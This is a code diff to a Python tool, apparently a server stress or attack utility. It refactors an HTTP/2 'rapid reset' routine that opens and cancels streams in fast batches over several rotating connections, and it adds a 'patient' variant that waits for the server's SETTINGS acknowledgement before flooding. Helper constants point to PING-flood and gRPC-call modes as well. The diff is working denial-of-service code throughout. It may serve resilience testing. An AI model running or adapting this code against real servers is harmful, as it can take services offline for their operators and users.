@@ -91,25 +91,56 @@ def bad_paths(target: Target, per_second: float) -> None:
             connection.recv(1 << 16)
 
 
-def rapid_reset(target: Target, per_second: float) -> None:
+@dataclasses.dataclass
+class _Lane:
+    """One of several connections that are used in turn."""
+
+    connection: socket.socket | None = None
+    next_stream: int = 3
+    is_heard: bool = False  # the server has read what it began with
+
+    def end(self) -> None:
+        """Begin anew the next time."""
+        self.connection, self.next_stream, self.is_heard = None, 3, False
+
+
+def rapid_reset(target: Target, per_second: float, *, is_patient: bool = False) -> None:
     """HEADERS and RST_STREAM of one stream after the other, on several connections in turn; all headers are told by
-    HPACK's indices."""
+    HPACK's indices. One that is patient waits on each connection until the server has answered."""
     learnt = frame(HEADERS, END_HEADERS, 1, _fields(b"\x40")) + frame(RST_STREAM, 0, 1, CANCEL)
-    known = b"\x83\x86\xc1\xc0\xbf\xbe"  # POST, http, and the four that were told first
-    lanes: list[tuple[socket.socket | None, int]] = [(None, 0)] * NUM_LANES
+    lanes = [_Lane() for _ in range(NUM_LANES)]
     for num in target.paced(per_second / BATCH):
-        connection, first = lanes[num % NUM_LANES]
-        lanes[num % NUM_LANES] = (None, 0)
-        with contextlib.suppress(OSError):
-            if connection is None:
-                connection, first = target.connect(), 3
-                connection.sendall(learnt)
-            last = first + 2 * BATCH
-            connection.sendall(b"".join([_opened_and_reset(one, known) for one in range(first, last, 2)]))
-            _swallow(connection)
-            target.num_sent += BATCH
-            if last < MAX_STREAM:
-                lanes[num % NUM_LANES] = (connection, last)
+        lane = lanes[num % NUM_LANES]
+        try:
+            if lane.connection is None:
+                lane.connection = target.connect()
+                lane.connection.sendall(b"" if is_patient else learnt)
+            if is_patient and not lane.is_heard:
+                lane.is_heard = _ACKNOWLEDGED in _swallow(lane.connection)
+                if not lane.is_heard:
+                    continue
+                lane.connection.sendall(learnt)
+            _reset_batch(target, lane)
+        except OSError:
+            lane.end()
+
+
+def patient_rapid_reset(target: Target, per_second: float) -> None:
+    """`rapid_reset` that is patient."""
+    rapid_reset(target, per_second, is_patient=True)
+
+
+def _reset_batch(target: Target, lane: _Lane) -> None:
+    assert lane.connection is not None
+    known = b"\x83\x86\xc1\xc0\xbf\xbe"  # POST, http, and the four that were told first
+    last = lane.next_stream + 2 * BATCH
+    streams = range(lane.next_stream, last, 2)
+    lane.connection.sendall(b"".join([_opened_and_reset(one, known) for one in streams]))
+    _swallow(lane.connection)
+    target.num_sent += BATCH
+    lane.next_stream = last
+    if last >= MAX_STREAM:
+        lane.end()
 
 
 def calls(target: Target, per_second: float) -> None:
@@ -187,14 +218,17 @@ def _opened_and_reset(stream: int, fields: bytes) -> bytes:
     return b"\0\0\x06\x01\x04" + number + fields + b"\0\0\x04\x03\0" + number + CANCEL
 
 
-def _swallow(connection: socket.socket) -> None:
+def _swallow(connection: socket.socket) -> bytes:
     """Take what came back, so that what is sent does not stop."""
+    taken = b""
     with contextlib.suppress(BlockingIOError):
-        while True:
-            if not connection.recv(1 << 20, socket.MSG_DONTWAIT):
-                raise ConnectionResetError
+        while chunk := connection.recv(1 << 20, socket.MSG_DONTWAIT):
+            taken += chunk
+        raise ConnectionResetError
+    return taken
 
 
+_ACKNOWLEDGED = frame(SETTINGS, 1, 0)
 _CHECK = _fields(b"\x00", b"/grpc.health.v1.Health/Check")
 _OPEN = frame(HEADERS, END_HEADERS, 1, _fields(b"\x00"))
 PINGS = repeated(frame(PING, 0, 0, b"12345678"), 256)
